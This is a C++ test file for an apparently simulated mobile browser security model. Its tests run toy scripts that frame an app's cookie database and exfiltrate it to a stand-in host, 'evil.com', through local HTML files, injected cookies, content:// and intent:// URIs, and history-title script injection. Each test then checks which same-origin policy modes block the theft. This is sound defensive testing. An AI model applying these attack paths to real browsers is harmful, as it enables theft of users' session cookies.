#include "doctest.h"

#include "ifl/base/error.h"
#include "ifl/web/browser.h"
#include "ifl/web/document.h"
#include "ifl/web/script.h"
#include "ifl/web/site.h"
#include "ifl/world/world.h"

using namespace ifl;
using namespace ifl::web;

namespace {

constexpr char kApp[] = "com.victim.browser";
constexpr char kCookies[] = "/data/data/com.victim.browser/app_webview/cookies.db";
constexpr char kCookieBytes[] = "bank.com\tsid\tS3SS10N\n";

// One device running a browser app plus an Internet host "evil.com".
struct Bench {
  World world{1};
  StaticSite site{world, "evil.com"};

  Bench() {
    world.fs.InstallApp(kApp, {});
    world.net.AddNode(kApp, net::NodeKind::kDeviceApp, "phone", kApp);
    world.net.AddNode("evil.com", net::NodeKind::kInternetHost, "evil.com");
    world.fs.Write(kCookies, vfs::kRootUid, kCookieBytes);
    site.Serve();
  }

  Browser MakeBrowser(RenderConfig config) {
    return Browser(world, kApp, std::string(kApp), config);
  }

  std::vector<std::string> Received() const {
    std::vector<std::string> out;
    for (const net::Message& m : world.net.node("evil.com").inbox)
      out.push_back(m.payload);
    return out;
  }
};

RenderConfig WithMode(origin::SopMode mode) {
  RenderConfig config;
  config.sop.mode = mode;
  return config;
}

}  // namespace

// Expected scripts were extracted by hand before the parser existed.
TEST_CASE("script extraction corpus") {
  using A = Action;
  struct Case {
    const char* body;
    std::vector<Script> expected;
  };
  const std::vector<Case> corpus = {
      {"", {}},
      {"no scripts here", {}},
      {"x<script>READ_BODY;EXFIL evil.com</script>y",
       {{{A::ReadBody(), A::Exfil("evil.com")}}}},
      {"<SCRIPT>READ_BODY</SCRIPT>", {{{A::ReadBody()}}}},
      {"<script type=\"text/x\">READ_BODY</script>", {{{A::ReadBody()}}}},
      {"<scripts>READ_BODY</scripts>", {}},
      {"<script>READ_BODY", {}},
      {"<script>READ_BODY</script><script>EXFIL a.com</script>",
       {{{A::ReadBody()}}, {{A::Exfil("a.com")}}}},
      {"<script></script>", {{}}},
      {"<script>  READ_BODY ;; EXFIL a.com ; </script>",
       {{{A::ReadBody(), A::Exfil("a.com")}}}},
      {"<script>alert(1)</script>", {{}}},
      {"<script>READ_BODY;BOGUS</script>", {{}}},
      {"<script>FRAME ../../Library/notes.db;EXFIL evil.com</script>",
       {{{A::Frame("../../Library/notes.db"), A::Exfil("evil.com")}}}},
      {"<script>SETCOOKIE evil.com pref %3Cscript%3EREAD_BODY%3C/script%3E</script>",
       {{{A::SetCookie("evil.com", "pref", "<script>READ_BODY</script>")}}}},
      {"<script>POST http://h/upload?name=a.html %3Chtml%3E</script>",
       {{{A::Post("http://h/upload?name=a.html", "<html>")}}}},
      {"<script>POST /x</script>", {{{A::Post("/x", "")}}}},
      {"<script>read_body</script>", {{}}},
      {"<script>READ_BODY<script>EXFIL a.com</script>", {{}}},
      {"<script\n>READ_BODY</ScRiPt>", {{{A::ReadBody()}}}},
      {"a</script><script>EXFIL b.com</script>", {{{A::Exfil("b.com")}}}},
  };
  REQUIRE(corpus.size() == 20);
  for (const Case& c : corpus) {
    CAPTURE(c.body);
    CHECK(ParseScripts(c.body) == c.expected);
  }
}

TEST_CASE("actions round-trip through the wire form") {
  std::vector<Action> actions = {
      Action::ReadBody(), Action::Frame("file:///a b"),
      Action::SetCookie("h", "n", "<script>x; y</script>"),
      Action::Post("/u", "a=1&b=2"), Action::Exfil("evil.com")};
  std::string tag = ScriptTag({actions[2], actions[3], actions[4]});
  CHECK(ParseScripts(tag) ==
        std::vector<Script>{{{actions[2], actions[3], actions[4]}}});
  CHECK_FALSE(ParseActions("FRAME"));
  CHECK_FALSE(ParseActions("EXFIL a b"));
}

TEST_CASE("document model") {
  origin::Url url = origin::ParseUrl("http://evil.com/dir/p.html");
  Document doc = ParseDocument(
      url,
      "<title>a &lt;b&gt;</title><iframe src='../f.html'></iframe>"
      "<a href=\"file:///x\">go</a><script><iframe src=/hidden></script>",
      {});
  CHECK(doc.title == "a <b>");
  REQUIRE(doc.frames.size() == 1);
  CHECK(doc.frames[0].Spec() == "http://evil.com/f.html");
  REQUIRE(doc.links.size() == 1);
  CHECK(doc.links[0].text == "go");
  CHECK(doc.scripts.size() == 1);

  Document text = ParseDocument(url, "<script>READ_BODY</script>", {}, "text/plain");
  CHECK(text.scripts.empty());
}

TEST_CASE("local html frames a cookie file across directories") {
  const char kPage[] = "/sdcard/Download/evil.html";
  const std::string body = "<script>FRAME file://" + std::string(kCookies) +
                           ";EXFIL evil.com</script>";
  for (auto mode : {origin::SopMode::kPermissive, origin::SopMode::kLegacy}) {
    Bench b;
    b.world.fs.Write(kPage, vfs::kRootUid, body);
    Browser browser = b.MakeBrowser(WithMode(mode));
    RenderResult r = browser.Navigate(std::string("file://") + kPage);
    REQUIRE(r.exfiltrated.size() == 1);
    CHECK(r.exfiltrated[0].bytes == kCookieBytes);
    CHECK(b.Received() == std::vector<std::string>{kCookieBytes});
  }

  Bench b;
  b.world.fs.Write(kPage, vfs::kRootUid, body);
  Browser enhanced = b.MakeBrowser(WithMode(origin::SopMode::kEnhanced));
  CHECK(enhanced.Navigate(std::string("file://") + kPage).exfiltrated.empty());
  REQUIRE(b.world.trace.FirstBlocking());
  CHECK(b.world.trace.FirstBlocking()->decision == "deny:path_dir");
}

TEST_CASE("NoJS suppresses local scripts") {
  Bench b;
  b.world.fs.Write("/sdcard/evil.html", vfs::kRootUid,
                   "<script>FRAME file://" + std::string(kCookies) +
                       ";EXFIL evil.com</script>");
  RenderConfig config = WithMode(origin::SopMode::kPermissive);
  config.js_local_enabled = false;
  Browser browser = b.MakeBrowser(config);
  CHECK(browser.Navigate("file:///sdcard/evil.html").exfiltrated.empty());
  CHECK(b.Received().empty());
  CHECK(b.world.trace.FirstBlocking()->kind == "script-suppressed");
}

TEST_CASE("injected cookie script runs in its own file origin") {
  Bench b;
  Cookie injected{"evil.com", "pref",
                  "<script>READ_BODY;EXFIL evil.com</script>"};
  b.site.Put("/inject.html",
             ScriptTag({Action::SetCookie(injected.host, injected.name,
                                          injected.value)}));
  b.site.Put("/view.html",
             "<iframe src=\"file://" + std::string(kCookies) + "\"></iframe>");
  RenderConfig config = WithMode(origin::SopMode::kEnhanced);
  config.local_frames_from_web = true;
  Browser browser = b.MakeBrowser(config);
  browser.Navigate("http://evil.com/inject.html");

  std::string jar = b.world.fs.Read(kCookies, vfs::kRootUid);
  CHECK(ParseScripts(jar).size() == 1);
  CHECK(ParseScripts(jar)[0].actions ==
        std::vector<Action>{Action::ReadBody(), Action::Exfil("evil.com")});

  RenderResult r = browser.Navigate("http://evil.com/view.html");
  REQUIRE(r.exfiltrated.size() == 1);
  CHECK(r.exfiltrated[0].bytes == jar);
  CHECK_FALSE(b.world.trace.Contains("sop-denied"));
}

TEST_CASE("web pages cannot frame local files by default") {
  Bench b;
  b.site.Put("/view.html",
             "<iframe src=\"file://" + std::string(kCookies) + "\"></iframe>");
  Browser browser = b.MakeBrowser({});
  browser.Navigate("http://evil.com/view.html");
  CHECK(b.world.trace.FirstBlocking()->kind == "local-frame-blocked");
}

TEST_CASE("content provider loading") {
  Bench b;
  b.world.fs.Write(kCookies, vfs::kRootUid,
                   "<script>READ_BODY;EXFIL evil.com</script>");
  RenderConfig config;
  config.content_provider_exposed = true;
  config.provider_implements_openfile = true;
  Browser browser = b.MakeBrowser(config);
  std::string uri = std::string("content://") + kApp + "/app_webview/cookies.db";
  CHECK(browser.Navigate(uri).exfiltrated.size() == 1);

  config.provider_implements_openfile = false;
  Browser closed = b.MakeBrowser(config);
  CHECK_THROWS_AS(closed.Navigate(uri), Error);
  try {
    closed.Navigate(uri);
  } catch (const Error& e) {
    CHECK(e.code() == Errc::kProviderUnavailable);
  }
}

TEST_CASE("intent preconditions") {
  const std::string intent =
      std::string("intent://x#Intent;component=") + kApp +
      "/.Main;S.url=file%3A%2F%2F" + std::string(kCookies).substr(0) + ";end";
  struct Row {
    bool parse, external, file_js;
    const char* stage;
  };
  const Row rows[] = {
      {false, true, true, "intent-not-parsed"},
      {true, false, true, "intent-no-external-url"},
      {true, true, false, "intent-file-js-disallowed"},
      {true, true, true, nullptr},
  };
  for (const Row& row : rows) {
    Bench b;
    b.world.fs.Write(kCookies, vfs::kRootUid,
                     "<script>READ_BODY;EXFIL evil.com</script>");
    RenderConfig config;
    config.intent_parse_uri = row.parse;
    config.intent_component_loads_external_url = row.external;
    config.intent_component_allows_file_js = row.file_js;
    Browser browser = b.MakeBrowser(config);
    RenderResult r = browser.Navigate(intent);
    if (row.stage) {
      CHECK(r.exfiltrated.empty());
      CHECK(b.world.trace.FirstBlocking()->kind == row.stage);
    } else {
      CHECK(r.exfiltrated.size() == 1);
    }
  }
}

TEST_CASE("history title script leaks the history file") {
  Bench b;
  b.site.Put("/t.html",
             "<title>&lt;script&gt;READ_BODY;FRAME ../app_webview/cookies.db;"
             "EXFIL evil.com&lt;/script&gt;</title>");
  Browser legacy = b.MakeBrowser({});
  legacy.Navigate("http://evil.com/t.html");
  RenderResult r = legacy.RenderStoreUi(Store::kHistory);
  std::string history = b.world.fs.Read(legacy.StorePath(Store::kHistory),
                                        vfs::kRootUid);
  REQUIRE(r.exfiltrated.size() == 2);
  CHECK(r.exfiltrated[0].bytes == history);
  CHECK(r.exfiltrated[1].bytes == kCookieBytes);

  Bench e;
  e.site.Put("/t.html",
             "<title>&lt;script&gt;READ_BODY;FRAME ../app_webview/cookies.db;"
             "EXFIL evil.com&lt;/script&gt;</title>");
  Browser enhanced = e.MakeBrowser(WithMode(origin::SopMode::kEnhanced));
  enhanced.Navigate("http://evil.com/t.html");
  RenderResult er = enhanced.RenderStoreUi(Store::kHistory);
  REQUIRE(er.exfiltrated.size() == 1);
  CHECK(er.exfiltrated[0].bytes ==
        e.world.fs.Read(enhanced.StorePath(Store::kHistory), vfs::kRootUid));
  CHECK(e.world.trace.Contains("sop-denied"));
}

TEST_CASE("file links need a click path") {
  Bench b;
  b.site.Put("/l.html", "<a href=\"file://" + std::string(kCookies) + "\">x</a>");
  b.world.fs.Write(kCookies, vfs::kRootUid,
                   "<script>READ_BODY;EXFIL evil.com</script>");
  Browser plain = b.MakeBrowser({});
  CHECK(plain.Navigate("http://evil.com/l.html", {UserAction::kClick, 0})
            .exfiltrated.empty());
  CHECK(b.world.trace.FirstBlocking()->kind == "link-not-clickable");

  RenderConfig config;
  config.long_press_dialog = true;
  Browser pressing = b.MakeBrowser(config);
  CHECK(pressing.Navigate("http://evil.com/l.html", {UserAction::kLongPress, 0})
            .exfiltrated.size() == 1);
  CHECK(b.world.trace.UserVisible().size() == 1);
}

TEST_CASE("cookies are scoped to the setting page's host") {
  Bench b;
  b.site.Put("/c.html", ScriptTag({Action::SetCookie("bank.com", "sid", "x")}));
  Browser browser = b.MakeBrowser({});
  browser.Navigate("http://evil.com/c.html");
  CHECK(b.world.trace.Contains("set-cookie-ignored"));
  std::vector<Cookie> jar = browser.Cookies();
  REQUIRE(jar.size() == 1);
  CHECK(jar[0].host == "bank.com");
  CHECK(jar[0].value == "S3SS10N");
}
